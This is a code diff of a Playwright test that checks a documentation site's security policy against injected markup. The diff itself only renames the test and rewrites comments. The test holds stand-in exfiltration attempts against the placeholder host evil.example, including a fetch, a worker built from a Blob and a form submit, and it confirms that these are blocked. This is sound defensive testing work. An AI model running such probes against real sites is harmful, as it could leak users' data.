@@ -6,24 +6,22 @@ import { expect, test } from '../support/test';
 const CONFIGURED = `http://127.0.0.1:${CONFIGURED_PORT}`;
 const PAGE = '/toolpad/core/react-use-dialogs/';
 
-test.describe('markup that got into a page after all', () => {
+test.describe('markup injected into a page', () => {
   test.use({ attacked: true });
 
   for (const origin of ['', CONFIGURED]) {
-    test(`runs nothing and sends nothing${origin && ', with everything configured'}`, async ({
-      page,
-    }) => {
+    test(`runs and sends nothing${origin && ', with everything configured'}`, async ({ page }) => {
       await page.route(/^https:\/\/(?!evil)/, (route) => route.abort());
       await page.goto(origin + PAGE);
       await waitForHydration(page);
       const outside: string[] = [];
-      // Of the hosts whose scripts run on the published site, one file each does, and no other.
+      // The published site's policy allows one file per script host, and never `other.js`.
       await page.route(/^https?:\/\/evil\.example|\/other\.js$/, async (route) => {
         outside.push(route.request().url());
         await route.fulfill({ contentType: 'text/javascript', body: 'window.attacked=1' });
       });
       await page.evaluate(async () => {
-        // What Playwright itself calls may use eval; what a timer calls is the page's own doing.
+        // Code that Playwright calls may use `eval`; after a timer, the page's policy applies.
         await new Promise((resolve) => setTimeout(resolve, 0));
         const attempt = (action: () => unknown) => {
           try {
@@ -70,7 +68,7 @@ test.describe('markup that got into a page after all', () => {
         attempt(() => new Worker(URL.createObjectURL(new Blob(['postMessage(1)']))));
         attempt(() => document.querySelector<HTMLFormElement>('#leak')?.submit());
         await fetch('https://evil.example/fetch').catch(() => undefined);
-        // What was started above is over when the browser has come round to this.
+        // Waits until the browser has handled all of the above.
         await new Promise((resolve) => setTimeout(resolve, 0));
         await new Promise((resolve) => requestAnimationFrame(resolve));
       });
